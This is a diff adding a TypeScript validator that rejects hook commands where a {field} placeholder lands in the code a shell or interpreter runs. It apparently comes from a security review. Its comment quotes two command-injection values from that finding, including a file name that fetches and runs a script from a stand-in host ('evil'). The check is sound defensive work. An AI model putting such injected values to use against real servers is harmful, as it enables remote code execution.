@@ -1,0 +1,51 @@
+import { basename } from 'node:path';
+
+/**
+ * Shells and interpreters, and the options after which their next argument
+ * is code they run. Found by a review: `['sh', '-c', 'run.sh "{path}"']`
+ * passed the config check, and an upload named `a$(curl evil|sh)`, or a
+ * failed login as `$(id>/tmp/p)` (no account needed), ran as the server: the
+ * value stays one argument, but that argument is a script. Values reach such
+ * a program safely as arguments of their own after the script
+ * (`['sh', '-c', 'run.sh "$1"', 'sh', '{path}']`).
+ */
+const SHELLS = /^(?:sh|bash|dash|zsh|ksh|mksh|ash|fish|csh|tcsh)$/;
+const INTERPRETERS = /^(?:python[0-9.]*|perl[0-9.]*|ruby[0-9.]*|node|nodejs|php[0-9.]*|lua[0-9.]*|tclsh[0-9.]*|osascript|pwsh)$/;
+/** Ways a program is started through another: the argv goes on after them. */
+const LAUNCHERS = /^(?:env|nice|nohup|setsid|ionice|timeout|stdbuf|chrt|taskset|sudo|doas|runuser|xargs)$/;
+
+/**
+ * Whether the word after `option` is code: for a shell, after an option word
+ * holding `c` (`-c`, `-ec`, `-lc`); for an interpreter, after one ending in
+ * c, e, E, p or r (`-c`, `-e`, `-ne`, `-pe`, php's `-r`) or a long eval or
+ * print. Wider than each program's own rules: a word refused here that was
+ * only a file name is a config error to rewrite, never a hole.
+ */
+function takesCode(program: string, option: string): boolean {
+  if (SHELLS.test(program)) return /^-[a-zA-Z]*c[a-zA-Z]*$/.test(option);
+  return /^-[a-zA-Z]*[ceEpr]$/.test(option) || ['--eval', '--print', '-Command', '-command'].includes(option);
+}
+
+/**
+ * Pure: the first argument of `argv` that a shell or an interpreter it
+ * starts runs as code and that holds a `{field}` (a config error), or null.
+ * A program given through a launcher (`env`, `nice`, `timeout`...) is
+ * looked at too; one started in ways this cannot see (a script that runs
+ * `eval "$1"`) is the operator's to keep safe (SECURITY.md, Hooks).
+ */
+export function placeholderInCode(argv: readonly string[]): string | null {
+  let i = 0;
+  // Past launchers, their options and VAR=value words, to the program they start.
+  while (i < argv.length && LAUNCHERS.test(basename(argv[i] as string))) {
+    i++;
+    while (i < argv.length && /^(?:-|[A-Za-z_][A-Za-z0-9_]*=|\d)/.test(argv[i] as string)) i++;
+  }
+  const program = basename(argv[i] ?? '');
+  if (program === 'busybox') i++;
+  const runner = basename(argv[i] ?? '');
+  if (!SHELLS.test(runner) && !INTERPRETERS.test(runner)) return null;
+  for (let k = i + 1; k < argv.length - 1; k++) {
+    if (takesCode(runner, argv[k] as string) && /\{[a-z0-9]+\}/.test(argv[k + 1] as string)) return argv[k + 1] as string;
+  }
+  return null;
+}
